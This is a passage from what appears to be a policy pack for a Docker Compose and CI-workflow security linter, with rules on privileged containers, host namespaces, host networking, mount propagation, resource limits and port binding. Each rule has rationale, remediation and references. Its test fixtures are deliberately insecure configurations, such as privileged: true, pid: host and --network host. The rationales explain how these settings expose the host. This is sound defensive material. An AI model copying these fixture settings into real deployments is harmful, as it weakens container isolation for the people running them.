app:\\n    image: ghcr.io/example/app:1.4.2\\n    devices: []\\n    volumes:\\n      - ./dev:/srv/dev\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --device /dev/fuse\\n    steps:\\n      - run: |\\n          docker run --rm --device=/dev/kvm ghcr.io/example/emulator:2.0.0 boot\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2 --device ${{ matrix.device }}\\n    steps:\\n      - run: docker run --rm alpine:3.20 ls /dev\\n","expect":[]}],"source":"policies/docker/container-host-device.yaml"},{"id":"container-host-namespace","pack":"docker","title":"Container shares the host\'s PID, IPC, UTS or user namespace","severity":"high","subject":"container","schema":{"properties":{"pid":{"not":{"const":"host"}},"ipc":{"not":{"const":"host"}},"uts":{"not":{"const":"host"}},"userns_mode":{"not":{"const":"host"}}}},"message":"{{name}} sets `{{key}}: host`, so it shares that namespace with the host and can see or affect what runs outside the container. Remove the setting so the container keeps its own namespace.","rationale":"Namespaces are what make a container a container. Sharing the host\'s PID namespace lets its processes list, signal and (with `SYS_PTRACE`) inspect every process on the host, including their environment and secrets; sharing IPC exposes the host\'s shared memory segments and semaphores; sharing UTS lets it change the host\'s hostname; and `userns_mode: host` switches off user-namespace remapping, so root in the container is root on the host again. The CIS Docker Benchmark asks that none of these namespaces be shared with the host.","remediation":"Remove the setting so that Docker gives the container its own namespace. To share a namespace\\nbetween cooperating containers, share it with that container rather than with the host:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  debugger:\\n    image: ghcr.io/example/debug-tools:2.0.1\\n    pid: \\"service:app\\"   # not \\"host\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--pid host`, `--ipc host`, `--uts host`\\nand `--userns host`.","references":[{"framework":"cis-docker","id":"1.6.0:5.16"},{"framework":"cis-docker","id":"1.6.0:5.17"},{"framework":"cis-docker","id":"1.6.0:5.21"},{"framework":"cis-docker","id":"1.6.0:5.31"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pid"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: datadog/agent:7.57.0\\n    pid: host\\n    ipc: host\\n    uts: host\\n    userns_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":14},{"line":5,"column":5},{"line":6,"column":5},{"line":7,"column":5,"endLine":7,"endColumn":22}]},{"file":"compose.yaml","content":"x-debug: &debug\\n  pid: \\"host\\"\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  tools:\\n    <<: *debug\\n    image: ghcr.io/example/debug-tools:2.0.1\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ipc: shareable\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    ipc: \\"service:app\\"\\n    pid: \\"service:app\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ubuntu:24.04\\n      options: --pid=host --ipc host\\n    steps:\\n      - run: ps aux\\n","expect":[{"line":7,"column":7},{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          set -eu\\n          docker run --rm \\\\\\n            --userns=host \\\\\\n            ubuntu:24.04 id\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --pid private --hostname app\\n    steps:\\n      - run: docker run --rm --pid container:app ubuntu:24.04 ps\\n","expect":[]}],"source":"policies/docker/container-host-namespace.yaml"},{"id":"container-host-network","pack":"docker","title":"Container uses the host\'s network namespace","severity":"high","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"host"}}}},"message":"{{name}} uses the host\'s network stack instead of its own: it can reach every service bound to the host\'s localhost and every host interface, and anything it listens on is exposed on the host directly. Remove the host network mode and publish only the ports it serves, e.g. `ports: [\\"127.0.0.1:8080:8080\\"]`.","rationale":"With the host network mode the container gets no network namespace of its own. It sees and can use all of the host\'s interfaces, can connect to daemons that listen only on the host\'s loopback address (metadata endpoints, databases, the Docker API on TCP), can sniff traffic with `NET_RAW`, and bypasses the isolation and firewall rules Docker sets up for bridge networks. The CIS Docker Benchmark asks that the host\'s network namespace never be shared with a container.","remediation":"Drop the host network mode, let the container use its own (user-defined bridge) network, and\\npublish only the ports that must be reachable, bound to a specific address:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    # network_mode: host   # removed\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--network host` / `--net=host` and use\\n`-p 127.0.0.1:8080:8080` instead.","references":[{"framework":"cis-docker","id":"1.6.0:5.10"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/host/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  metrics:\\n    image: prom/node-exporter:v1.8.2\\n    network_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":23}]},{"file":"compose.yaml","content":"x-hostnet: &hostnet\\n  network_mode: \\"host\\"\\nservices:\\n  sniffer:\\n    <<: *hostnet\\n    image: nicolaka/netshoot:v0.13\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    networks: [front]\\n  sidecar:\\n    image: envoyproxy/envoy:v1.31.0\\n    network_mode: \\"service:web\\"\\nnetworks:\\n  front: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --net=host --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - name: Start the app\\n        run: |\\n          docker network create e2e\\n          docker run -d --name app --network host ghcr.io/example/app:1.4.2\\n","expect":[{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --network ${{ matrix.network }}\\n    steps:\\n      - run: docker run -d --network e2e -p 127.0.0.1:8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-host-network.yaml"},{"id":"container-mount-propagation-shared","pack":"docker","title":"Mount uses shared propagation","severity":"medium","subject":"container","schema":{"properties":{"volumes":{"items":{"properties":{"propagation":{"not":{"enum":{"$param":"sharedModes"}}}}}}}},"message":"{{name}} has a mount with `{{value}}` propagation, so mounts made inside the container appear on the host (and in other containers sharing it) and the other way round. Remove the propagation option (the default is `rprivate`) or use `rslave` if the container only needs to see host mounts.","rationale":"With shared propagation a mount made inside the container is propagated to the host\'s mount namespace and to every other container that shares the mount, which lets a container change what the host sees under that path. The CIS Docker Benchmark (5.20) asks that mount propagation not be set to shared. `rslave` gives the container the host\'s new mounts without sending its own back.","remediation":"```yaml\\nservices:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - type: bind\\n        source: /mnt/data\\n        target: /data\\n        bind:\\n          propagation: rslave   # not shared / rshared\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.20"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/#configure-bind-propagation"}],"params":{"sharedModes":["shared","rshared"]},"paramSchemas":{"sharedModes":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Bind propagation modes that let mounts made inside the container appear on the host."}},"tests":[{"file":"compose.yaml","content":"services:\\n  csi:\\n    image: ghcr.io/example/csi-driver:1.2.0\\n    volumes:\\n      - /mnt/data:/data:rshared\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: shared\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":32},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - /mnt/data:/data:ro,rslave\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: rprivate\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      options: --mount type=bind,source=/mnt,target=/mnt,bind-propagation=rshared\\n    steps:\\n      - run: |\\n          docker run --rm -v /srv:/srv:shared alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      volumes:\\n        - /mnt:/mnt:rslave\\n    steps:\\n      - run: docker run --rm -v /srv:/srv:ro alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-mount-propagation-shared.yaml"},{"id":"container-no-cpu-limit","pack":"docker","title":"Compose service has no CPU limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["cpus"]},"message":"{{name}} has no CPU limit, so a busy loop or a flood of requests in it can starve every other container on the host. Set `cpus:` (or `deploy.resources.limits.cpus`), e.g. `cpus: 1.0`.","rationale":"By default every container competes for all of the host\'s CPUs with equal weight. A service that is attacked or stuck in a loop slows everything else down, including health checks and the Docker daemon. A limit keeps one service\'s problem its own. The CIS Docker Benchmark (5.12) and the OWASP cheat sheet (rule 7) ask that CPU use be limited or prioritized. Informational by default: on a host that runs one service, a limit matters less.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.0        # or deploy.resources.limits.cpus: \\"1.0\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.12"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/#cpu"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    mem_limit: 512m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 0.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          cpus: \\"2\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-cpu-limit.yaml"},{"id":"container-no-healthcheck","pack":"docker","title":"Compose service has no health check","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"{{name}} has no working health check, so Docker reports it as running while it hangs or serves errors, and `depends_on: condition: service_healthy` cannot wait for it. Add a `healthcheck:` (or a HEALTHCHECK in its Dockerfile) that probes the service, e.g. `test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]`.","rationale":"A container whose main process is alive is not necessarily a service that works. A health check lets Docker, Compose and orchestrators notice a deadlocked or degraded container, restart it or keep traffic and dependants away from it, and it turns silent failures (including some denial of service) into visible ones. The CIS Docker Benchmark asks for a HEALTHCHECK in images (4.6) and for container health to be checked at run time (5.27). Informational by default: many services are watched from outside instead.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    healthcheck:\\n      test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]\\n      interval: 30s\\n      timeout: 5s\\n      retries: 3\\n```\\n\\nImages without a shell or wget can ship a small probe binary, or define the HEALTHCHECK in the\\nDockerfile.","references":[{"framework":"cis-docker","id":"1.6.0:5.27"},{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      disable: true\\n  cache:\\n    image: redis:7.4\\n    healthcheck:\\n      test: [\\"NONE\\"]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":7,"column":7,"endLine":7,"endColumn":20},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      test: [\\"CMD-SHELL\\", \\"pg_isready -U postgres\\"]\\n      interval: 10s\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --no-healthcheck\\n    steps:\\n      - run: docker run -d nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-no-healthcheck.yaml"},{"id":"container-no-memory-limit","pack":"docker","title":"Compose service has no memory limit","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["mem_limit"]},"message":"{{name}} has no memory limit, so a leak or a crafted request can exhaust the host\'s memory and take every other container down with it. Set `mem_limit:` (or `deploy.resources.limits.memory`) to what the service needs, e.g. `mem_limit: 512m`.","rationale":"By default a container may use all of the host\'s memory. One misbehaving or attacked service then pushes the host into swapping or wakes the kernel\'s OOM killer, which may kill a different, more important process. A limit confines the damage to the service that caused it and makes capacity planning possible. The CIS Docker Benchmark (5.11) and the OWASP cheat sheet (rule 7) ask that every container\'s memory be limited.","remediation":"Set a limit with headroom above the service\'s normal use:\\n\\n```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n          cpus: \\"1.0\\"\\n          pids: 200\\n```\\n\\n`mem_limit: 512m`, `cpus: 1.0` and `pids_limit: 200` at the service level are equivalent.","references":[{"framework":"cis-docker","id":"1.6.0:5.11"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    mem_limit: 256m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-memory-limit.yaml"},{"id":"container-no-new-privileges","pack":"docker","title":"Container may gain privileges through setuid binaries (no-new-privileges not set)","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"security_opt":{"not":{"items":{"not":{"pattern":{"$param":"enabled"}}}}}}},"message":"{{name}} does not set `no-new-privileges`, so a setuid or setgid program inside it can still raise a process\'s privileges. Add `security_opt: [\\"no-new-privileges:true\\"]`.","rationale":"The kernel\'s `no_new_privs` bit, which Docker sets with `no-new-privileges`, makes `execve` unable to grant more privileges than the caller had: setuid and setgid binaries and file capabilities stop working as an escalation path from an application user to root inside the container. It costs nothing for almost every service. The CIS Docker Benchmark and the OWASP cheat sheet recommend it for every container; this rule asks it of Compose services, the long-running ones.","remediation":"Add the option to the service (or to a shared `x-` block merged into every service):\\n\\n```yaml\\nx-hardening: &hardening\\n  security_opt:\\n    - no-new-privileges:true\\nservices:\\n  app:\\n    <<: *hardening\\n    image: ghcr.io/example/app:1.4.2\\n```\\n\\nThe Docker daemon can also apply it to every container with `\\"no-new-privileges\\": true` in\\n`daemon.json`, but the Compose file is where a reviewer can see it.","references":[{"framework":"cis-docker","id":"1.6.0:5.26"},{"framework":"owasp-docker","id":"RULE #4"}],"params":{"enabled":"^no-new-privileges=(1|t|T|true|TRUE|True)$"},"paramSchemas":{"enabled":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `security_opt` entry that turns no-new-privileges on. Docker reads the value with Go\'s strconv.ParseBool; a bare `no-new-privileges` is normalized to `no-new-privileges=true` by the container subject."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt:\\n      - apparmor=docker-default\\n      - no-new-privileges:false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":17}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  security_opt: [no-new-privileges:true]\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    security_opt:\\n      - no-new-privileges\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt: [\\"no-new-privileges=true\\", \\"seccomp=./seccomp.json\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --health-cmd pg_isready\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-new-privileges.yaml"},{"id":"container-no-pids-limit","pack":"docker","title":"Compose service has no process (PIDs) limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["pids_limit"],"properties":{"pids_limit":{"type":"integer","minimum":1}}},"message":"{{name}} has no limit on the number of processes, so a fork bomb or a runaway worker pool in it can exhaust the host\'s process table. Set `pids_limit:` (or `deploy.resources.limits.pids`), e.g. `pids_limit: 200`.","rationale":"Process IDs are a host-wide resource. Without a limit, one container can create processes until the kernel refuses to start any more anywhere on the host, including the daemon\'s own. The CIS Docker Benchmark (5.29) asks that the PIDs cgroup limit be used. Informational by default.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.29"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pids_limit"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    pids_limit: -1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          pids: 100\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-pids-limit.yaml"},{"id":"container-port-all-interfaces","pack":"docker","title":"Published port listens on every host interface","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"required":["host_ip"],"properties":{"host_ip":{"not":{"enum":{"$param":"anyAddress"}}}}}}}},"message":"{{name}} publishes a port on every interface of the host, so it is reachable from the network, and Docker\'s own firewall rules let it past host firewalls such as ufw. Bind it to the address that should reach it, e.g. `\\"127.0.0.1:8080:80\\"`.","rationale":"A published port without a host address is bound to `0.0.0.0` and `::`. Docker inserts its NAT rules ahead of the host firewall\'s own, so a database or admin interface meant for local use becomes reachable from the whole network, and from the internet on a server with a public address, even when `ufw` or `firewalld` says the port is closed. The CIS Docker Benchmark asks that container ports be bound to a specific host interface; the OWASP cheat sheet warns about the firewall bypass.","remediation":"Bind the port to the loopback address (or to the one interface that should serve it), and put a\\nreverse proxy in front of services that must be public:\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"127.0.0.1:5432:5432\\"\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - target: 8080\\n        published: \\"8080\\"\\n        host_ip: 127.0.0.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.14"},{"framework":"owasp-docker","id":"RULE #5a"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"anyAddress":["0.0.0.0","::","[::]"]},"paramSchemas":{"anyAddress":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Host addresses that mean \\"every interface\\"; an absent host_ip means the same."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"5432:5432\\"\\n      - 127.0.0.1:5433:5432\\n      - \\"0.0.0.0:6432:6432\\"\\n      - \\"[::]:7432:7432/tcp\\"\\n      - \\"9187\\"\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":20},{"line":7,"column":9},{"line":8,"column":9},{"line":9,"column":9}]},{"file":"compose.yaml","content":"x-ports: &ports\\n  ports:\\n    - target: 3000\\n      published: \\"3000\\"\\nservices:\\n  grafana:\\n    <<: *ports\\n    image: grafana/grafana:11.2.0\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n      - \\"[::1]:8080:8080\\"\\n      - target: 9090\\n        published: \\"9090\\"\\n        host_ip: 10.0.0.5\\n    expose: [\\"9100\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        ports:\\n          - 5432:5432\\n        options: -p 6432:6432\\n    steps:\\n      - run: docker run -d -p 8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-port-all-interfaces.yaml"},{"id":"container-privileged-port","pack":"docker","title":"Compose service publishes a privileged host port (below 1024)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"properties":{"published":{"not":{"pattern":{"$param":"privilegedPort"}}}}}}}},"message":"{{name}} publishes host port {{value}}, one of the privileged ports below 1024 that the host normally reserves for its own system services. Publish a port above 1024 (e.g. `\\"8080:80\\"`) and put a reverse proxy or load balancer on the low port if one is needed.","rationale":"Ports below 1024 are privileged on Linux: only root may bind them, and clients trust that what answers there is a service the administrator started (SSH on 22, DNS on 53, HTTP on 80). Docker publishes them for any container regardless, so a container can take over a well-known port on the host. The CIS Docker Benchmark (5.8) asks that privileged ports not be mapped into containers. Informational by default: a reverse proxy on 80 and 443 is the usual, deliberate exception.","remediation":"Publish a high port and keep the low one for a reverse proxy you have chosen to expose:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.8"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"privilegedPort":"^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)"},"paramSchemas":{"privilegedPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A published host port, or the start of a range, below 1024."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"80:80\\"\\n      - \\"127.0.0.1:8443:443\\"\\n      - target: 53\\n        published: \\"53\\"\\n        protocol: udp\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":16},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n      - \\"8443:443\\"\\n      - \\"9000-9010:9000-9010\\"\\n      - \\"3000\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        ports:\\n          - 80:80\\n    steps:\\n      - run: docker run -d -p 443:443 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-privileged-port.yaml"},{"id":"container-privileged","pack":"docker","title":"Container runs privileged","severity":"critical","subject":"container","schema":{"properties":{"privileged":{"not":{"const":true}}}},"message":"{{name}} runs privileged: it gets every Linux capability and every host device, so whoever controls it controls the host. Remove `privileged: true` and add only the capabilities it needs with `cap_add`.","rationale":"A privileged container runs with all capabilities, with access to all host devices, and without the seccomp, AppArmor and SELinux confinement Docker applies by default. Anything that escapes into it (a vulnerable dependency, a malicious image, a pull request\'s code) can mount the host\'s disks, load kernel modules and take over the machine and every container on it.","remediation":"Remove the privileged flag and grant the one capability the workload actually needs, after\\ndropping the rest:\\n\\n```yaml\\nservices:\\n  app:\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE]\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, drop `--privileged` and use `--cap-drop ALL --cap-add \u2026`.","references":[{"framework":"cis-docker","id":"1.6.0:5.5"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":21}]},{"file":"compose.yaml","content":"x-common: &common\\n  privileged: \\"true\\"\\nservices:\\n  web:\\n    <<: *common\\n    image: nginx:1.27\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: false\\n    cap_add: [NET_BIND_SERVICE]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --privileged --health-cmd pg_isready\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo building\\n          docker run --rm \\\\\\n            --privileged alpine:3.20 true\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-privileged.yaml"},{"id":"container-restart-policy","pack":"docker","title":"Restart policy retries without a bound","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"restart":{"pattern":{"$param":"boundedRestart"}}}},"message":"{{name}} uses `restart: {{value}}`, which restarts it forever, so a crash loop (or an attacker who can crash it on demand) keeps the host busy restarting it without anyone noticing. Use `restart: on-failure:5` and alert on the failure instead.","rationale":"An unbounded restart policy hides a failing service behind endless restarts: each one costs CPU and I/O, may replay a harmful start-up step, and keeps a service that should have been looked at running in a broken state. The CIS Docker Benchmark (5.15) asks for the `on-failure` policy with a maximum of five retries. Informational by default, since `unless-stopped` is a common and deliberate choice for services that must survive reboots.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.15"},{"framework":"url","url":"https://docs.docker.com/engine/containers/start-containers-automatically/"}],"params":{"boundedRestart":"^(no|false|on-failure:[1-5])$"},"paramSchemas":{"boundedRestart":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`no` (YAML 1.1 reads an unquoted `no` as false), or on-failure with at most five retries."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: always\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    restart: unless-stopped\\n  jobs:\\n    image: ghcr.io/example/jobs:1.4.2\\n    restart: on-failure\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":20},{"line":7,"column":5},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n  migrate:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: \\"no\\"\\n  web:\\n    image: nginx:1.27\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d --restart always 